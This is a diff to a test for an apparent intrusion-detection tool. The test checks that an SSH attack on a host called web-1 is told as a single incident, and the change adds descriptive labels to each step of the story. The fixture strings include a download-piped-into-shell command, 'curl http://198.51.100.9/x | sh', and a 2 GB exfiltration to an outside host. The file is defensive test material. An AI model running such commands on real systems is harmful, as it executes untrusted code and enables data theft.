@@ -160,10 +160,10 @@ test("an SSH intrusion is one incident that tells its story", () => {
     [
       "Port scan from 203.0.113.7 on web-1 (40 findings, 40 events).",
       "SSH brute force from 203.0.113.7 on web-1 (12 findings, 480 events).",
-      "deploy logged in to web-1 from 203.0.113.7.",
-      "deploy started curl http://198.51.100.9/x | sh on web-1.",
+      "SSH login after many failures: deploy logged in to web-1 from 203.0.113.7.",
+      "Download piped into a shell: deploy started curl http://198.51.100.9/x | sh on web-1.",
       "New cron entry runs from a temporary folder.",
-      "curl sent 2 GB from web-1 to 198.51.100.9.",
+      "Large upload to an unknown address: curl sent 2 GB from web-1 to 198.51.100.9.",
     ]
   `);
   expect(incident?.tactics).toEqual(["TA0043", "TA0001", "TA0002", "TA0003", "TA0006", "TA0010"]);
